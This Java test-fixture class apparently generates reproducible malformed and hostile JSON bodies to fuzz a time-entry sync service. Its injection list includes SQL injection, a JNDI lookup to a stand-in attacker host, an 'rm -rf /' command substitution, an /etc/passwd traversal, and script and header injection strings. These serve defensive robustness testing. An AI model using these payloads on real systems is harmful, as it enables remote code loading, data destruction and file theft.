package io.ledgerbridge.testing;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/**
 * Generated malformed and hostile inputs, each derived from a good record and marked {@code hostile-NNNNNN} (in its
 * first characters where the body is broken, in a field otherwise) so that its outcome can be found again: broken
 * JSON, wrong types, missing fields, huge strings, unusual unicode, negative hours, 25-hour days, zero and
 * sub-minute hours, huge numbers, dates in 1900 and 2100, impossible dates, injection strings, deep nesting,
 * duplicate keys, the wrong top-level shape, empty bodies and (for HTTP only) bodies of 10 MB. The n-th input is
 * always the same.
 */
public final class HostileInputs {

    /** What is wrong with an input; {@code mayBeValid} kinds are odd but legitimate text (carried intact). */
    public enum Kind {
        TRUNCATED(false), TRAILING_GARBAGE(false), NOT_JSON(false), WRONG_TYPE(false), MISSING_FIELD(false),
        HUGE_STRING(false), UNICODE_TEXT(true), LONE_SURROGATE(true), NUL_CHARACTER(true), NEGATIVE_HOURS(false),
        DAY_OF_25_HOURS(false), ZERO_HOURS(false), SUB_MINUTE_HOURS(false), HUGE_NUMBER(false), YEAR_1900(true),
        YEAR_2100(false), IMPOSSIBLE_DATE(false), INJECTION_TEXT(true), DEEP_NESTING(false), DUPLICATE_KEYS(false),
        WRONG_TOP_LEVEL(false), EMPTY(false), TEN_MEGABYTES(false);

        public final boolean mayBeValid;

        Kind(boolean mayBeValid) {
            this.mayBeValid = mayBeValid;
        }
    }

    /** One input: its number, marker, kind, and the body as sent. */
    public record Input(int n, String marker, Kind kind, String body) {
    }

    static final List<String> INJECTIONS = List.of(
            "'; drop table sync_record; --", "\" or 1=1 --", "${jndi:ldap://attacker.example/a}",
            "${header.Authorization}", "${sys:user.home}", "{{7*7}}", "$eval('1+1')", "#{7*7}",
            "<script>alert(1)</script>", "$(rm -rf /)", "../../../../etc/passwd", "line\r\nX-Injected: yes",
            "%00%0d%0a", "{\"$where\": \"1 == 1\"}", "`id`", "\u0000\u0001\u0002");
    static final List<String> UNICODE = List.of(
            "\u202Eevil\u202C reversed", "zero\u200Bwidth\u200Djoiner", "emoji \uD83D\uDCB8\uD83E\uDDFE", "e\u0301\u0301\u0301",
            "\uFEFFbom inside", "全角の説明", "مرحبا بالعالم", "\u1F600 high plane \uD834\uDD1E", "Ω≈ç√∫˜µ≤≥÷");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Kind[] KINDS = Kind.values();
    private final TimeEntryFixtures.Project project;
    private final boolean http;

    /** Inputs shaped like approved time of this project; {@code http} adds the 10 MB bodies. */
    public HostileInputs(TimeEntryFixtures.Project project, boolean http) {
        this.project = project;
        this.http = http;
    }

    public static String marker(int n) {
        return String.format("hostile-%06d", n);
    }

    /** The n-th input as a whole body (a webhook request, a Kafka record). */
    public Input document(int n, long entryId) {
        Random random = new Random(n);
        Kind kind = KINDS[n % KINDS.length];
        if (kind == Kind.TEN_MEGABYTES && !http) {
            kind = Kind.HUGE_STRING;
        }
        String marker = marker(n);
        String good = good(entryId, marker);
        String body = switch (kind) {
            case TRUNCATED -> good.substring(0, 30 + random.nextInt(good.length() - 40));
            case TRAILING_GARBAGE -> good.trim() + List.of("}", "]", ",", " garbage", "{").get(random.nextInt(5));
            case NOT_JSON -> List.of("<xml marker=\"" + marker + "\"/>", "marker=" + marker + "&hours=1",
                    "{'marker': '" + marker + "'}", "{\"marker\": \"" + marker + "\", hours: NaN}").get(random.nextInt(4));
            case WRONG_TOP_LEVEL -> List.of("\"" + marker + "\"", "[\"" + marker + "\", 42]", "[[\"" + marker + "\"]]",
                    "{\"marker\": \"" + marker + "\"}").get(random.nextInt(4));
            case EMPTY -> List.of("", " ", "null", "{}", "[]").get(random.nextInt(5));
            case DEEP_NESTING -> "{\"marker\": \"" + marker + "\", \"id\": " + entryId + ", \"notes\": "
                    + "[".repeat(5_000) + "]".repeat(5_000) + "}";
            case DUPLICATE_KEYS -> good.replaceFirst("\"hours\": 1.25,", "\"hours\": 1.25, \"hours\": 125,");
            case TEN_MEGABYTES -> good.replace("\"Sprint planning\"", "\"" + "x".repeat(10 * 1024 * 1024) + "\"");
            default -> mutate(good, kind, random);
        };
        return new Input(n, marker, kind, body);
    }

    /** The n-th input as a JSON value inside a document (an entry of a poll page): hostile content, valid JSON. */
    public Input value(int n, long entryId) {
        Kind kind = KINDS[n % KINDS.length];
        Random random = new Random(n);
        String marker = marker(n);
        String good = good(entryId, marker);
        String body = switch (kind) {
            case TRUNCATED, TRAILING_GARBAGE, NOT_JSON, WRONG_TOP_LEVEL, EMPTY ->
                    List.of("\"" + marker + "\"", "[\"" + marker + "\"]", "{\"marker\": \"" + marker + "\"}",
                            "[[\"" + marker + "\", 42, null]]").get(random.nextInt(4));
            case DEEP_NESTING -> "{\"marker\": \"" + marker + "\", \"id\": " + entryId + ", \"notes\": "
                    + "[".repeat(40) + "]".repeat(40) + "}";
            case DUPLICATE_KEYS, TEN_MEGABYTES -> mutate(good, Kind.HUGE_STRING, random);
            default -> mutate(good, kind, random);
        };
        return new Input(n, marker, kind, body);
    }

    /** A good approved entry carrying the marker (in a field the flow ignores). */
    public String good(long entryId, String marker) {
        String entry = project.approvedEntry(entryId, "1.25", "2026-11-20T10:15:00Z");
        return entry.replaceFirst("\\{", "{\"marker\": \"" + marker + "\", ");
    }

    private static String mutate(String good, Kind kind, Random random) {
        try {
            ObjectNode entry = (ObjectNode) JSON.readTree(good);
            switch (kind) {
                case WRONG_TYPE -> {
                    String field = List.of("id", "hours", "spent_date", "user", "project", "is_closed", "task", "updated_at")
                            .get(random.nextInt(8));
                    switch (random.nextInt(5)) {
                        case 0 -> entry.put(field, "two");
                        case 1 -> entry.putArray(field).add(1).add("x");
                        case 2 -> entry.putObject(field).put("nested", true);
                        case 3 -> entry.put(field, field.equals("id") ? "20261119" : "20261119");
                        default -> entry.put(field, false);
                    }
                }
                case MISSING_FIELD -> entry.remove(List.of("id", "hours", "spent_date", "user", "project", "task",
                        "updated_at", "is_closed").get(random.nextInt(8)));
                case HUGE_STRING -> {
                    int size = random.nextInt(10) == 0 ? 900_000 : 20_000 + random.nextInt(80_000);
                    if (random.nextBoolean()) {
                        entry.put("notes", "A".repeat(size));
                    } else {
                        ((ObjectNode) entry.get("user")).put("name", "B".repeat(size));
                    }
                }
                case UNICODE_TEXT -> entry.put("notes", UNICODE.get(random.nextInt(UNICODE.size())));
                case LONE_SURROGATE -> entry.put("notes", "lone LONE_SURROGATE surrogate");
                case NUL_CHARACTER -> entry.put("notes", "nul\u0000inside");
                case NEGATIVE_HOURS -> entry.put("hours", -(0.25 + random.nextInt(40) / 4.0));
                case DAY_OF_25_HOURS -> entry.put("hours", List.of(25, 24.01, 48, 1000).get(random.nextInt(4)).doubleValue());
                case ZERO_HOURS -> entry.put("hours", 0);
                case SUB_MINUTE_HOURS -> entry.put("hours", new java.math.BigDecimal("0.0000001"));
                case HUGE_NUMBER -> {
                    if (random.nextBoolean()) {
                        entry.put("hours", new java.math.BigDecimal("1e400"));
                    } else {
                        entry.put("id", new java.math.BigInteger("9".repeat(60)));
                    }
                }
                case YEAR_1900 -> entry.put("spent_date", "1900-01-0" + (1 + random.nextInt(9)));
                case YEAR_2100 -> entry.put("spent_date", "2100-12-3" + random.nextInt(2));
                case IMPOSSIBLE_DATE -> entry.put(random.nextBoolean() ? "spent_date" : "updated_at",
                        List.of("2026-02-30", "2026-13-01", "yesterday", "", "2026-11-19T25:61:00Z", "0000-00-00")
                                .get(random.nextInt(6)));
                case INJECTION_TEXT -> {
                    String text = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
                    entry.put("notes", text);
                    ((ObjectNode) entry.get("task")).put("name", text);
                }
                default -> throw new IllegalArgumentException(kind.name());
            }
            // a lone surrogate can only be sent escaped (as UTF-8 it would already be a replacement character)
            return JSON.writeValueAsString(entry).replace("LONE_SURROGATE", "\\ud800");
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
